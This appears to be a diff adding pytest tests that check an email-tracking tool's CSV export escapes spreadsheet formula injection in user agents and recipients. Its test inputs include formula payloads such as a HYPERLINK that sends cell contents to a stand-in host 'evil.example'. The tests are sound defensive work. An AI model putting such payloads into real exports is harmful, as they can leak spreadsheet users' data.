@@ -90,3 +90,44 @@ def test_export_of_an_empty_campaign_and_bad_input(tracked: Server) -> None:  # 
         == 422
     )
     assert tracked.api("GET", "/api/v1/campaigns/424242/export").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=HYPERLINK(\"http://evil.example\")", "'=HYPERLINK(\"http://evil.example\")"),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("Mozilla/5.0", "Mozilla/5.0"),
+        ("a=b", "a=b"),
+        (-1.5, -1.5),  # numbers are numbers, not text a spreadsheet would run
+        (None, ""),
+    ],
+)
+def test_csv_cells_never_start_a_formula(value: Any, cell: Any) -> None:
+    from mailbeacon.reports.export import _cell
+
+    assert _cell(value) == cell
+
+
+def test_csv_export_neutralises_a_formula_in_a_user_agent(
+    tracked: Server, tmp_path: Path
+) -> None:
+    from tests.traffic import hit
+
+    cid = tracked.api("POST", "/api/v1/campaigns", json={"name": "formula"}).json()["id"]
+    msg = tracked.message(recipient="=1+2@example.org", campaign_id=cid)
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-2+3", "+cmd"]
+    for ua in evil:
+        hit(msg["open_url"], "198.51.100.20", ua)
+    out = tmp_path / "events.csv"
+    cli("export", "formula", "--format", "csv", "--out", str(out), db=tracked.db)
+    got = parse(out.read_text(), "csv")
+    assert sorted(r["user_agent"] for r in got) == sorted("'" + ua for ua in evil)
+    assert {r["recipient"] for r in got} == {"'=1+2@example.org"}
+    # JSON keeps the value exactly as it came: only spreadsheets run formulas.
+    r = tracked.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "json"})
+    assert sorted(e["user_agent"] for e in r.json()) == sorted(evil)
